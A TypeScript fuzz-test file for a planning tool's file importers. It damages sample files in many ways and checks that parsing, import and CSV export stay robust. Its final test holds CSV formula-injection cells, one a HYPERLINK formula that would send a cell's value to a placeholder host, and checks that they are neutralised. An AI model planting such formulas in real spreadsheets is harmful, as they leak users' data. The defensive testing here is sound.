/**
 * Every format, damaged in ten thousand ways: nothing may throw, hang, or pass in silence. Files are in memory, since a disk would
 * take most of the time; one in twenty is brought into a plan as well. More on demand: FUZZ_RUNS=100000.
 */
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { rowsAsCsv } from '../../shared/importers/desk/rowsBehind.ts';
import { defaultImportChoices } from '../../shared/importers/importChoices.ts';
import { planImport } from '../../shared/importers/importPlan.ts';
import type { ImportSource } from '../../shared/importers/importSource.ts';
import { createPlan } from '../../shared/plan/plan.ts';
import { applyPlanCommand } from '../../shared/plan/applyPlanCommand.ts';
import { readSource } from './readSource.ts';
import { allFormats } from './testing/formatSamples.ts';
import { openInMemory } from './testing/memoryFile.ts';
import { moreFormats } from './testing/moreSamples.ts';

const memory = vi.hoisted((): { bytes: Buffer } => ({ bytes: Buffer.alloc(0) }));
vi.mock('node:fs/promises', async (original) => ({
  ...(await original<typeof import('node:fs/promises')>()),
  stat: () => Promise.resolve({ size: memory.bytes.length, isDirectory: () => false }),
  open: () => Promise.resolve(openInMemory(memory.bytes)),
}));

const runs = Number(process.env.FUZZ_RUNS ?? 10_000);
/** Forms that are like one above are damaged less often; with FUZZ_RUNS as often. */
const moreRuns = process.env.FUZZ_RUNS === undefined ? Math.ceil(runs / 10) : runs;
const planEvery = 20;
const plan = createPlan('Test');
const signal = new AbortController().signal;

async function read(name: string, bytes: Buffer): Promise<ImportSource> {
  memory.bytes = bytes;
  return readSource(name, { format: null, dialect: null, folder: '', signal, onProgress: () => undefined });
}

/** Whether something was found, or something is said. */
function isHeard({ file }: ImportSource): boolean {
  return file.counts.length > 0 || file.rowsRead > 0;
}

const pieces = [
  '',
  '\u0000',
  '"',
  '""',
  "'",
  '[',
  ']',
  '{',
  '}',
  '[]',
  '{}',
  ',',
  ';',
  ':',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '&a',
  '*a',
  '=1+1',
  '-',
  '\\',
  '|',
  '\uFEFF',
  '𝕬',
  '\uD800',
  '0000-00-00',
  '2026-02-30T00:00:00Z',
  '1,5',
  '1e999',
  '-1',
  'null',
  '__proto__',
  '<<<<<<<',
  '\u202E',
  '%s',
  '#',
  '!',
];
const damage = fc.oneof(fc.constantFrom(...pieces), fc.string({ unit: 'binary', maxLength: 4 }));
const edit = fc.tuple(fc.nat(), fc.nat(6), damage);
/** Pieces put in, bytes changed, the end cut off. */
const spoiling = fc.record({
  edits: fc.array(edit, { maxLength: 4 }),
  bytes: fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 2 }),
  keep: fc.oneof(fc.constant(1), fc.double({ min: 0, max: 1, noNaN: true })),
});

function spoil(
  text: string,
  { edits, bytes, keep }: typeof spoiling extends fc.Arbitrary<infer Value> ? Value : never,
): Buffer {
  let changed = text;
  for (const [at, remove, insert] of edits) {
    const from = at % (changed.length + 1);
    changed = changed.slice(0, from) + insert + changed.slice(from + remove);
  }
  const spoilt = Buffer.from(changed);
  for (const [at, value] of bytes) if (spoilt.length > 0) spoilt[at % spoilt.length] = value;
  return spoilt.subarray(0, Math.ceil(spoilt.length * keep));
}

/** What a file gives, without what depends on its bytes. */
const contentOf = ({ file, ...content }: ImportSource): unknown => [content, file.rowsRead];

describe.each(Object.entries({ ...allFormats, ...moreFormats }))('%s', (name, text) => {
  it('is read when it is whole', async () => {
    const source = await read(name, Buffer.from(text));
    expect([source.kind === 'unreadable', source.file.rowsRead > 0]).toEqual([false, true]);
  });

  it('cut off at every hundredth of its length gives what stands before, or a reason', async () => {
    const bytes = Buffer.from(text);
    for (let part = 1; part <= 100; part += 1) {
      const cut = bytes.subarray(0, Math.ceil((bytes.length * part) / 100));
      expect([part, isHeard(await read(name, cut))]).toEqual([part, true]);
    }
  });

  it.each([
    ['UTF-16 with the high byte first', (plain: string) => Buffer.from(`\uFEFF${plain}`, 'utf16le').swap16()],
    ['UTF-16 without a mark', (plain: string) => Buffer.from(plain, 'utf16le')],
    // Every other line ends as on Windows.
    [
      'mixed line ends',
      (plain: string) => Buffer.from(plain.replace(/\n/g, (end, at: number) => (at % 2 === 0 ? `\r${end}` : end))),
    ],
  ])('in %s is the same', async (_what, encode) => {
    const plain = await read(name, Buffer.from(text));
    expect(contentOf(await read(name, encode(text)))).toEqual(contentOf(plain));
  });

  it('with zero bytes in it is said to be damaged, or refused', async () => {
    const half = Math.floor(text.length / 2);
    const { file } = await read(name, Buffer.from(`${text.slice(0, half)}\u0000${text.slice(half)}`));
    const reasons: readonly string[] = file.counts.map(({ reason }) => reason);
    expect(reasons.some((reason) => reason === 'zeroBytes' || reason === 'binaryFile')).toBe(true);
  });
});

describe('ten thousand ways to damage', () => {
  it.each(Object.entries(allFormats))(
    '%s',
    async (name, text) => {
      const started = performance.now();
      let run = 0;
      await fc.assert(
        fc.asyncProperty(spoiling, async (how) => {
          const bytes = spoil(text, how);
          const source = await read(name, bytes);
          if (!isHeard(source)) throw new Error(`Nothing is said of ${JSON.stringify(bytes.toString())}`);
          run += 1;
          if (run % planEvery !== 0) return;
          const { changes } = planImport(plan, [source], { ...defaultImportChoices, at: '2026-10-01T12:00:00Z' });
          const applied = applyPlanCommand(plan, { kind: 'import', changes });
          if (!applied.ok) throw new Error(JSON.stringify(applied.error));
        }),
        { numRuns: runs },
      );
      if (process.env.FUZZ_TIMES !== undefined) console.log(name, Math.round(performance.now() - started));
      expect(run).toBeGreaterThanOrEqual(runs);
    },
    3_600_000,
  );
});

describe('ways to damage what is like a format above in another shape', () => {
  it.each(Object.entries(moreFormats))(
    '%s',
    async (name, text) => {
      await fc.assert(
        fc.asyncProperty(spoiling, async (how) => {
          const bytes = spoil(text, how);
          if (!isHeard(await read(name, bytes)))
            throw new Error(`Nothing is said of ${JSON.stringify(bytes.toString())}`);
        }),
        { numRuns: moreRuns },
      );
    },
    3_600_000,
  );
});

describe('formula cells', () => {
  it('are emptied and said, what only begins like one is text, and all are guarded where Headroom writes them', async () => {
    const cells = ['=HYPERLINK("http://x/?"&A1)', '+1+1', '@SUM(A1)', '-2+3'];
    const rows = cells.map((cell, index) => `"${cell.replaceAll('"', '""')}",Pay,lots ${index}`);
    const source = await read('people.csv', Buffer.from(`Name,Team,FTE\n${rows.join('\n')}\n`));
    const { changes, issues } = planImport(plan, [source], { ...defaultImportChoices, at: '2026-10-01T12:00:00Z' });
    const applied = applyPlanCommand(plan, { kind: 'import', changes });
    if (!applied.ok) throw new Error(applied.error.kind);
    expect([...applied.value.baseline.people.values()].map(({ name }) => name)).toEqual(cells.slice(1));
    expect(source.file.issues).toMatchObject([{ reason: 'formulaCell', place: { kind: 'text', line: 2, column: 1 } }]);
    const written = rowsAsCsv([{ source, issues }]);
    expect(written).toContain('"\'+1+1"');
    expect(written).not.toMatch(/(^|,)"[=+@-]/m);
  });
});
